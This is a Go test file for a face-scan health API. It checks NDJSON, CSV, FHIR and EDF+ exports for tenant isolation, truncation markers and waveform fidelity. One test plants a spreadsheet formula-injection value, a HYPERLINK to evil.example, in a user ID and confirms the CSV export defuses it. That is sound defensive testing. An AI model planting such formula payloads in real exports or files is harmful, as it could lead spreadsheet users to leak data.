package server_test

import (
	"crypto/tls"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"io"
	"math"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"blush.example/blush/blushtest"
	"blush.example/blush/client"
)

// lines splits an export in NDJSON.
func lines(t *testing.T, body []byte) (scans []map[string]any, end map[string]any) {
	t.Helper()
	for line := range strings.Lines(string(body)) {
		var one map[string]any
		if err := json.Unmarshal([]byte(line), &one); err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		if one["end"] == true {
			end = one
			continue
		}
		if end != nil {
			t.Error("a scan comes after the end")
		}
		scans = append(scans, one)
	}
	return scans, end
}

// The export as NDJSON or CSV has the scans of the customer's own users only. The last line counts them.
func TestScansAreExported(t *testing.T) {
	blushtest.OnBothDatabases(t, func(t *testing.T, w *blushtest.World) {
		evil := `=HYPERLINK("http://evil.example";A1),x;@SUM(1)`
		ada, _, err := w.Client(w.Dev).CreateUser(t.Context(), client.User{ExternalUserID: &evil})
		if err != nil {
			t.Fatal(err)
		}
		bob := w.User()
		for _, u := range []string{ada.UserID, ada.UserID, bob.UserID} {
			aScan(w, u)
		}
		_, dev2, _ := w.NewCustomer("Other")
		other := client.User{}
		w.Call(dev2, "POST", "/v2/users", `{}`).Want(http.StatusCreated).JSON(&other)
		w.Call(dev2, "POST", "/v2/facescans?user_id="+other.UserID, `{"synthetic":{"duration_s":10}}`).Want(http.StatusCreated)

		a := w.Call(w.Dev, "GET", "/v2/facescans/export", nil).Want(http.StatusOK)
		scans, end := lines(t, a.Body)
		if len(scans) != 3 || end["face_scans"] != 3.0 || strings.Contains(string(a.Body), other.UserID) {
			t.Errorf("%d scans, end %v", len(scans), end)
		}
		users := map[any]int{}
		for _, s := range scans {
			users[s["user_id"]]++
			if s["engine"] == nil || len(s["estimates"].([]any)) < 10 || s["status"] != "done" {
				t.Errorf("a scan lacks something: %v", s)
			}
		}
		if users[ada.UserID] != 2 || users[bob.UserID] != 1 {
			t.Errorf("%v", users)
		}
		// By user and by time.
		if scans, end := lines(t, w.Call(w.Dev, "GET", "/v2/facescans/export?user_id="+bob.UserID, nil).Want(http.StatusOK).Body); len(scans) != 1 || end["face_scans"] != 1.0 {
			t.Errorf("one user: %v, %v", scans, end)
		}
		if scans, end := lines(t, w.Call(w.Dev, "GET", "/v2/facescans/export?from=2100-01-01T00:00:00Z", nil).Want(http.StatusOK).Body); len(scans) != 0 || end["face_scans"] != 0.0 {
			t.Errorf("of the future: %v, %v", scans, end)
		}
		if scans, _ := lines(t, w.Call(w.Dev, "GET", "/v2/facescans/export?to=2000-01-01T00:00:00Z", nil).Want(http.StatusOK).Body); len(scans) != 0 {
			t.Errorf("of the past: %v", scans)
		}

		// As CSV: every row has the same number of cells, and none is a formula for a spreadsheet.
		table, err := csv.NewReader(strings.NewReader(string(w.Call(w.Dev, "GET", "/v2/facescans/export?format=csv", nil).Want(http.StatusOK).Body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		column := map[string]int{}
		for i, name := range table[0] {
			column[name] = i
		}
		if len(table) != 5 || table[4][0] != "end" || table[4][1] != "3" {
			t.Fatalf("%d rows, the last %v", len(table), table[len(table)-1])
		}
		guarded := 0
		for _, row := range table[1:4] {
			rate, err := strconv.ParseFloat(row[column["heart_rate"]], 64)
			if err != nil || rate < 40 || row[column["heart_rate_low"]] == "" || row[column["rmssd_reason"]] != "too_short" {
				t.Errorf("%v", row)
			}
			if row[column["external_user_id"]] == `'=HYPERLINK("http://evil.example";A1),x;'@SUM(1)` {
				guarded++
			}
		}
		if guarded != 2 {
			t.Errorf("%d of 2 cells are kept from being formulas", guarded)
		}
		for query, place := range map[string]string{"format=xml": `["query","format"]`, "from=yesterday": `["query","from"]`, "user=1": `["query","user"]`,
			"from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z": `["query","from"]`} {
			if got := w.Call(w.Dev, "GET", "/v2/facescans/export?"+query, nil).Places(); len(got) != 1 || got[0] != place {
				t.Errorf("%s: %v", query, got)
			}
		}
	})
}

// An export of scans that fails is cut off and lacks its last line, in both formats. The history as FHIR is then not
// valid JSON.
func TestCutScanExportIsSeen(t *testing.T) {
	w := blushtest.Start(t)
	user := w.User().UserID
	first := aScan(w, user)
	for range 24 { // more than is buffered before the first part is sent
		aScan(w, user)
	}
	db, err := sql.Open("sqlite", "file:"+w.DatabaseURL+"?_pragma=busy_timeout(10000)")
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.ExecContext(t.Context(), "UPDATE scan SET result = substr(result, 1, 200) WHERE id = $1", first); err != nil {
		t.Fatal(err)
	}
	for format, path := range map[string]string{"ndjson": "/v2/facescans/export", "csv": "/v2/facescans/export?format=csv", "fhir": "/v2/fhir/Patient/" + user + "/$everything"} {
		req, err := http.NewRequestWithContext(t.Context(), "GET", w.URL+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("x-api-key", w.Dev)
		of := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}} // the test's own server
		defer of.CloseIdleConnections()
		resp, err := of.RoundTrip(req)
		if err != nil { // the rows of CSV are short, so none was sent yet
			if format != "csv" {
				t.Errorf("%s: nothing of the export came: %v", format, err)
			}
			continue
		}
		body, err := io.ReadAll(resp.Body)
		resp.Body.Close()
		if err == nil || len(body) == 0 || strings.Contains(string(body), "\nend,") || strings.Contains(string(body), `{"end":true`) || format == "fhir" && (json.Valid(body) || !strings.Contains(string(body), `"Observation"`)) {
			t.Errorf("%s: cut short it is %d, %d bytes, %v", format, resp.StatusCode, len(body), err)
		}
	}
}

// The waves as CSV and EDF+ are those of the API. Another program, BioSig, reads the EDF+. Each file that is not streamed says its length.
func TestWavesAreExported(t *testing.T) {
	w := blushtest.Start(t)
	user := w.User().UserID
	a := w.Call(w.Dev, "POST", "/v2/facescans?user_id="+user, `{"synthetic":{"duration_s":40,"seed":7},"timezone":"Europe/Brussels"}`).Want(http.StatusCreated)
	id := strings.TrimPrefix(a.Header.Get("Location"), "/v2/facescans/")
	wave, err := w.Client(w.Dev).Waveform(t.Context(), id)
	if err != nil {
		t.Fatal(err)
	}
	if len(wave.Pulse.Samples) < 1000 || len(wave.Respiration.Samples) < 100 || len(wave.Beats) < 20 {
		t.Fatalf("%d, %d and %d: too few to tell", len(wave.Pulse.Samples), len(wave.Respiration.Samples), len(wave.Beats))
	}
	table, err := csv.NewReader(strings.NewReader(string(w.Call(w.Dev, "GET", "/v2/facescans/"+id+"/waveform.csv", nil).Want(http.StatusOK).Body))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var pulse, breath []float64
	var beats []float64
	before := math.Inf(-1)
	for _, row := range table[1 : len(table)-1] {
		number := func(i int) float64 {
			v, err := strconv.ParseFloat(row[i], 64)
			if err != nil {
				t.Fatal(err)
			}
			return v
		}
		if at := number(1); at < before {
			t.Errorf("%v is out of order", row)
		} else {
			before = at
		}
		if row[2] != "" {
			pulse = append(pulse, number(2))
		}
		if row[3] != "" {
			breath = append(breath, number(3))
		}
		if row[4] != "" {
			beats = append(beats, number(1))
		}
	}
	same := func(what string, got, want []float64, within float64) {
		t.Helper()
		if len(got) != len(want) {
			t.Errorf("%s: %d, want %d", what, len(got), len(want))
			return
		}
		for i := range got {
			if math.Abs(got[i]-want[i]) > within {
				t.Errorf("%s %d: %g, want %g", what, i, got[i], want[i])
				return
			}
		}
	}
	var beatTimes []float64
	for _, b := range wave.Beats {
		beatTimes = append(beatTimes, b.Time)
	}
	same("pulse wave", pulse, wave.Pulse.Samples, 0)
	same("breathing wave", breath, wave.Respiration.Samples, 0)
	same("beats", beats, beatTimes, 5e-5)
	if last := table[len(table)-1]; last[0] != "end" || last[1] != strconv.Itoa(len(table)-2) {
		t.Errorf("the last row is %v of %d", last, len(table))
	}

	reader, err := exec.LookPath("save2gdf")
	if err != nil {
		t.Fatal("EDF+ cannot be read back without save2gdf: apt-get install biosig-tools, as scripts/test.sh does")
	}
	dir := t.TempDir()
	for _, call := range [][2]string{{"GET", "facescans/" + id + "/waveform.csv?"}, {"GET", "facescans/" + id + "/waveform.edf?"}, {"GET", "facescans/" + id + "/report?"}, {"GET", "users/report?user_id=" + user}, {"POST", "widgets/main?user_id=" + user}} {
		a := w.Call(w.Dev, call[0], "/v2/"+call[1], nil).Want(http.StatusOK)
		if length := a.Header.Get("Content-Length"); length != strconv.Itoa(len(a.Body)) {
			t.Errorf("%s has a Content-Length of %q for %d bytes", call, length, len(a.Body))
		}
	}
	file := filepath.Join(dir, "waves.edf")
	edf := w.Call(w.Dev, "GET", "/v2/facescans/"+id+"/waveform.edf", nil).Want(http.StatusOK)
	if err := os.WriteFile(file, edf.Body, 0o600); err != nil {
		t.Fatal(err)
	}
	out, err := exec.CommandContext(t.Context(), reader, "-JSON", file).Output()
	if err != nil {
		t.Fatal(err)
	}
	var read struct {
		Type    string `json:"TYPE"`
		Start   string `json:"StartOfRecording"`
		Patient struct{ ID string }
		Channel []struct {
			Label        string
			Samplingrate float64
		} `json:"CHANNEL"`
		Event []struct {
			Pos         float64 `json:"POS"`
			Description string
		} `json:"EVENT"`
	}
	if err := json.Unmarshal(out, &read); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if read.Type != "EDF" || len(read.Channel) != 3 || read.Channel[0].Label != "Pulse" || read.Channel[0].Samplingrate != wave.Pulse.RateHz ||
		read.Channel[1].Label != "Resp" || read.Channel[1].Samplingrate != wave.Respiration.RateHz || read.Patient.ID != user {
		t.Errorf("another program reads %+v", read)
	}
	beats = beats[:0]
	for _, e := range read.Event {
		if strings.HasPrefix(e.Description, "Beat") {
			beats = append(beats, e.Pos)
		}
	}
	same("beats that another program reads", beats, beatTimes, 0.02) // it rounds to its own samples
	// The samples, as that program turns them into text.
	if out, err := exec.CommandContext(t.Context(), reader, "-f=ASCII", file, filepath.Join(dir, "waves.asc")).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	text, err := os.ReadFile(filepath.Join(dir, "waves.a01"))
	if err != nil {
		t.Fatal(err)
	}
	pulse = pulse[:0]
	for field := range strings.FieldsSeq(string(text)) {
		v, err := strconv.ParseFloat(field, 64)
		if err != nil {
			t.Fatal(err)
		}
		pulse = append(pulse, v)
	}
	start := int(math.Round(wave.Pulse.StartS * wave.Pulse.RateHz))
	if len(pulse) < start+len(wave.Pulse.Samples) {
		t.Fatalf("%d samples read, want %d or more", len(pulse), start+len(wave.Pulse.Samples))
	}
	same("pulse wave that another program reads", pulse[start:start+len(wave.Pulse.Samples)], wave.Pulse.Samples, 1e-3)
}
